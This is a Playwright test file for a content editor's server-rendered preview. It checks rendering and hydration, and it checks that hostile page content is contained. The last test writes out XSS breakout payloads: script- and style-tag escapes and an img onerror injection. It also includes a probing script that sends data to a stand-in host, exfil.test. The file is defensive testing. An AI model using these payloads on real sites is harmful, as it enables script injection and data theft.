import type { Page } from '@playwright/test';
import { test, expect, preview, callApi, titleField, type Host } from './host';
import type { Component } from '../../core/schemas';

/*
 * Issue 25 §1 and §5: the preview document asked for with a page arrives with its first blocks rendered by the
 * host (before any script of the preview runs), with the page's custom styles, and goes through the same CSP,
 * sandbox and message rules: a hostile page put through the server renderer gets nothing out.
 */

const EXFIL = 'https://exfil.test';

const banner = (index: number, title: string): Component => ({
  _component: 'MainBanner',
  _identifier: `MainBannerServer${String(index).padStart(3, '0')}`,
  name: `Banner ${index}`,
  hidden: false,
  classes: [],
  content: { title },
});

/** A draft with these components and custom styles and scripts; answers its bookmark. */
async function seedPage(
  host: Host,
  components: Component[],
  assets: { customStyles?: string; customScripts?: string } = {},
): Promise<string> {
  const key = { fascia: 'site_jd', country: 'gb', page: 'server rendered', source: 'content-editor', platform: 'web' };
  const { draft } = await callApi(host, 'openPage', { key } as Parameters<typeof callApi<'openPage'>>[2]);
  await callApi(host, 'saveDraft', { draft: { ...draft, meta: { ...draft.meta, ...assets }, components } });
  return draft.bookmark;
}

const previewDocument = (host: Host, bookmark: string) =>
  `${host.url}/preview/index.html?load=test&page=${encodeURIComponent(bookmark)}`;
const editorAt = (host: Host, bookmark: string) =>
  `${host.url}/#/services/content-editor/page/${encodeURIComponent(bookmark)}`;

const TWELVE_BANNERS = Array.from({ length: 12 }, (_, index) => banner(index + 1, `Server title ${index + 1}`));
const CUSTOM_STYLES = '.block h2 { color: rgb(1, 2, 3); }';

test('the preview’s first blocks and the page’s custom styles are in its HTML, drawn before any script runs', async ({
  browser,
  host,
}) => {
  const bookmark = await seedPage(host, TWELVE_BANNERS, { customStyles: CUSTOM_STYLES });
  const response = await fetch(previewDocument(host, bookmark));
  const html = await response.text();
  expect(html).toContain('>Server title 1<');
  // The blocks past the first view are the windowing placeholders, without content.
  expect(html).not.toContain('>Server title 12<');
  expect(html).toContain(`<style data-page-asset="custom-styles">${CUSTOM_STYLES}</style>`);
  // The same CSP as the document without a page.
  const plain = await fetch(`${host.url}/preview/index.html?load=test`);
  expect(response.headers.get('content-security-policy')).toBe(plain.headers.get('content-security-policy'));
  expect(await plain.text()).not.toContain('Server title');

  const withoutScripts = await browser.newContext({ javaScriptEnabled: false });
  try {
    const page = await withoutScripts.newPage();
    await page.goto(previewDocument(host, bookmark));
    const first = page.locator('[data-identifier="MainBannerServer001"]');
    await expect(first.locator('h2')).toHaveText('Server title 1');
    await expect(first.locator('h2')).toHaveCSS('color', 'rgb(1, 2, 3)');
    await expect(page.locator('[data-identifier="MainBannerServer012"]')).toHaveClass(/block-placeholder/);
    await expect(page.locator('section.block')).toHaveCount(12);
  } finally {
    await withoutScripts.close();
  }
});

test('the editor opened at a page’s address gets its preview server-rendered, and it hydrates and takes edits', async ({
  page,
  host,
}) => {
  const bookmark = await seedPage(host, TWELVE_BANNERS);
  const served = page.waitForResponse((response) => response.url().includes('/preview/index.html?'));
  await page.goto(editorAt(host, bookmark));
  const response = await served;
  expect(new URL(response.url()).searchParams.get('page')).toBe(bookmark);
  expect(await response.text()).toContain('>Server title 1<');
  const block = preview(page).locator('[data-identifier="MainBannerServer001"]');
  await expect(block.locator('h2')).toHaveText('Server title 1');
  await block.click();
  await titleField(page).fill('Edited after hydration');
  await expect(block.locator('h2')).toHaveText('Edited after hydration');
  // Scrolled down, the placeholders render as before.
  await preview(page).locator('[data-identifier="MainBannerServer012"]').scrollIntoViewIfNeeded();
  await expect(preview(page).locator('[data-identifier="MainBannerServer012"] h2')).toHaveText('Server title 12');
});

test('a click on a block’s link before the preview has hydrated goes nowhere, and the preview stays on its page', async ({
  page,
  host,
}) => {
  const linked = { ...banner(1, 'Linked'), content: { title: 'Linked', mainLink: 'https://example.test/elsewhere' } };
  const bookmark = await seedPage(host, [linked]);
  const followed: string[] = [];
  await page.context().route('https://example.test/**', async (route) => {
    followed.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'text/html', body: 'Elsewhere' });
  });
  // The preview's bundle held back: what the preview shows meanwhile is the host's HTML alone.
  let release = () => undefined as void;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route('**/assets/preview-*.js', async (route) => {
    await held;
    await route.continue();
  });
  // Not waiting for the load event, which waits for the preview's held bundle.
  await page.goto(editorAt(host, bookmark), { waitUntil: 'domcontentloaded' });
  const root = preview(page).locator('#root');
  await preview(page).locator('[data-identifier="MainBannerServer001"] a.main-banner-art').click();
  await expect(root).not.toHaveAttribute('data-hydrated');
  release();
  await expect(root).toHaveAttribute('data-hydrated', '');
  await expect(preview(page).locator('[data-identifier="MainBannerServer001"] h2')).toHaveText('Linked');
  expect(followed).toEqual([]);
  await expect(page.getByText('A script in the preview tried to leave the page')).toHaveCount(0);
});

/** Every URL the hostile page loaded from the exfiltration host. */
async function watchExfiltration(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.context().route(`${EXFIL}/**`, async (route) => {
    seen.push(decodeURIComponent(route.request().url()));
    await route.fulfill({ status: 204 });
  });
  return seen;
}

const beacon = (label: string) => `new Image().src='${EXFIL}/${label}'`;

test('a hostile page put through the server renderer breaks out of nothing and reaches nothing', async ({
  page,
  host,
}) => {
  const exfiltrated = await watchExfiltration(page);
  const hostile: Component[] = [
    // Out of the page's JSON script, with a line separator to trip a JavaScript parser on the way.
    banner(1, `\u2028</script><script>${beacon('json-breakout')}</script><!--`),
    banner(2, `</SCRIPT ><script>${beacon('json-breakout-upper')}</script>`),
    // Into the markup: React escapes text, so this stays text.
    banner(3, `<img src=x onerror="${beacon('markup-breakout')}">`),
    // Custom HTML whose script would run if its markup were parsed with the document.
    {
      _component: 'CustomHTML',
      _identifier: 'CustomHTMLServer001',
      name: 'Custom',
      hidden: false,
      classes: [],
      content: { markup: `<p>Custom</p><script>${beacon('custom-html-script')}</script></main><!--` },
    },
  ];
  // Out of the custom styles' element; the custom script reports what it can reach, once it runs.
  const customStyles = `.block h2 { color: rgb(4, 5, 6); } </style><script>${beacon('style-breakout')}</script><style>`;
  const customScripts = `
const report = (label, value) => { new Image().src = '${EXFIL}/report/' + label + '?d=' + encodeURIComponent(JSON.stringify(value)); };
const block = document.querySelector('[data-identifier="MainBannerServer001"]');
report('hydrated', Object.keys(block).some((key) => key.startsWith('__reactFiber')));
report('studio', typeof window.studio);
try { report('parent', String(parent.document.title)); } catch (error) { report('parent', 'blocked'); }
fetch('/api/listPages', { method: 'POST', body: '{}' }).then(() => report('api', 'reached'), () => report('api', 'blocked'));
`;
  const bookmark = await seedPage(host, hostile, { customStyles, customScripts });

  const html = await (await fetch(previewDocument(host, bookmark))).text();
  // One JSON script, one root; nothing of the page outside them but its escaped custom styles.
  expect(html.match(/<script type="application\/json"/g)).toHaveLength(1);
  expect(html).not.toContain('<p>Custom</p>');
  expect(html).toContain('<\\/style><script>');

  await page.goto(editorAt(host, bookmark));
  await expect(page.getByTestId('preview-frame')).toHaveAttribute('sandbox', 'allow-scripts');
  const frame = preview(page);
  await expect(frame.locator('[data-identifier="MainBannerServer001"] h2')).toContainText('</script><script>');
  await expect(frame.locator('[data-identifier="MainBannerServer003"] h2')).toHaveText(
    `<img src=x onerror="${beacon('markup-breakout')}">`,
  );
  await expect(frame.locator('[data-identifier="MainBannerServer003"] h2')).toHaveCSS('color', 'rgb(4, 5, 6)');
  await expect(frame.locator('.custom-html p')).toHaveText('Custom');
  await expect.poll(() => exfiltrated.filter((url) => url.includes('/report/')).length).toBe(4);

  const reports = Object.fromEntries(
    exfiltrated
      .filter((url) => url.includes('/report/'))
      .map((url) => {
        const { pathname, searchParams } = new URL(url);
        return [pathname.slice('/report/'.length), JSON.parse(searchParams.get('d')!) as unknown];
      }),
  );
  expect(reports).toEqual({ hydrated: true, studio: 'undefined', parent: 'blocked', api: 'blocked' });
  // Nothing but the custom script's reports left: no breakout ran.
  expect(exfiltrated.filter((url) => !url.includes('/report/'))).toEqual([]);
  // The editor's page kept its data: the hostile page still shows, nothing navigated.
  await expect(page.getByRole('button', { name: 'Add Component' })).toBeVisible();
});
